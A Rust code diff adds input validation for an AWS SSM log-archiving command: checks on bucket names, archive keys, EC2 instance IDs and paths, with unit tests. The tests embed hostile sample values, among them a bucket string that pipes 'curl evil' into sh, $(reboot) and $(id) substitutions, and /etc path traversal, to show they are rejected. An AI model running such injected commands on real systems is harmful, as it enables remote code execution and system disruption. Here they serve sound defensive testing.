@@ -88,6 +88,62 @@ pub struct ArchiveCommand {
     pub timeout: std::time::Duration,
 }
 
+impl ArchiveCommand {
+    /// Whether every value matches what lifeguard's SSM document accepts
+    /// (`packaging/ssm/lifeguard-ArchiveLogs.json`).
+    pub fn check(&self) -> Result<(), String> {
+        if !crate::config::is_bucket_name(&self.bucket) {
+            return Err(format!("{:?} is not an S3 bucket name", self.bucket));
+        }
+        if !is_archive_key(&self.key) {
+            return Err(format!("{:?} is not an agentless archive key", self.key));
+        }
+        if self.paths.is_empty()
+            || self.paths.len() > crate::config::MAX_AGENTLESS_PATHS
+            || !self.paths.iter().all(|p| crate::config::is_plain_path(p))
+        {
+            return Err(format!("{:?} are not plain absolute paths", self.paths));
+        }
+        Ok(())
+    }
+}
+
+/// `lifeguard/GROUP/INSTANCE/YYYYMMDDTHHMMSSZ-agentless.tar.gz`, GROUP of `[A-Za-z0-9._-]`.
+fn is_archive_key(key: &str) -> bool {
+    let Some(rest) = key.strip_prefix("lifeguard/") else {
+        return false;
+    };
+    let parts: Vec<&str> = rest.split('/').collect();
+    let [group, instance, name] = parts.as_slice() else {
+        return false;
+    };
+    let stamp = name
+        .strip_suffix("-agentless.tar.gz")
+        .unwrap_or_default()
+        .as_bytes();
+    let digits = |s: &[u8]| s.iter().all(|b| b.is_ascii_digit());
+    (1..=255).contains(&group.len())
+        && group
+            .bytes()
+            .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b))
+        && is_instance_id(instance)
+        && stamp.len() == 16
+        && digits(&stamp[..8])
+        && stamp[8] == b'T'
+        && digits(&stamp[9..15])
+        && stamp[15] == b'Z'
+}
+
+/// `i-` and 8 or 17 hexadecimal digits, as EC2 names instances.
+pub fn is_instance_id(id: &str) -> bool {
+    id.strip_prefix("i-").is_some_and(|hex| {
+        (8..=17).contains(&hex.len())
+            && hex
+                .bytes()
+                .all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(&b))
+    })
+}
+
 #[derive(Debug, thiserror::Error)]
 #[error("{operation} {subject}: {message}")]
 pub struct FleetError {
@@ -158,4 +214,67 @@ pub trait Fleet: Send + Sync + 'static {
         &self,
         group: Option<&str>,
     ) -> impl Future<Output = Result<Vec<MarkedInstance>, FleetError>> + Send;
+}
+
+#[cfg(test)]
+mod tests {
+    use std::time::Duration;
+
+    use super::*;
+
+    fn command() -> ArchiveCommand {
+        ArchiveCommand {
+            bucket: "fleet-logs".into(),
+            key: "lifeguard/web_1/i-0123456789abcdef0/20261203T101500Z-agentless.tar.gz".into(),
+            paths: vec!["/var/log".into(), "/srv/app/log".into()],
+            timeout: Duration::from_secs(300),
+        }
+    }
+
+    #[test]
+    fn only_values_the_ssm_document_accepts_are_sent() {
+        assert_eq!(command().check(), Ok(()));
+        let hostile = [
+            ArchiveCommand {
+                bucket: "x'; curl evil | sh; echo '".into(),
+                ..command()
+            },
+            ArchiveCommand {
+                key: "lifeguard/web/i-0123456789abcdef0/$(reboot)-agentless.tar.gz".into(),
+                ..command()
+            },
+            ArchiveCommand {
+                key: "lifeguard/web/i-0123$(id)/20261203T101500Z-agentless.tar.gz".into(),
+                ..command()
+            },
+            ArchiveCommand {
+                key: "lifeguard/web/i-0123456789abcdef0/2026120ÄT10150Z-agentless.tar.gz".into(),
+                ..command()
+            },
+            ArchiveCommand {
+                paths: vec!["/var/log /etc".into()],
+                ..command()
+            },
+            ArchiveCommand {
+                paths: vec!["/var/log/../../etc".into()],
+                ..command()
+            },
+            ArchiveCommand {
+                paths: Vec::new(),
+                ..command()
+            },
+        ];
+        for bad in hostile {
+            assert!(bad.check().is_err(), "{bad:?}");
+        }
+    }
+
+    #[test]
+    fn instance_ids_are_ec2_shaped() {
+        assert!(is_instance_id("i-0123456789abcdef0"));
+        assert!(is_instance_id("i-01234567"));
+        assert!(!is_instance_id("i-0123456789ABCDEF0"));
+        assert!(!is_instance_id("i-;reboot"));
+        assert!(!is_instance_id("0123456789"));
+    }
 }
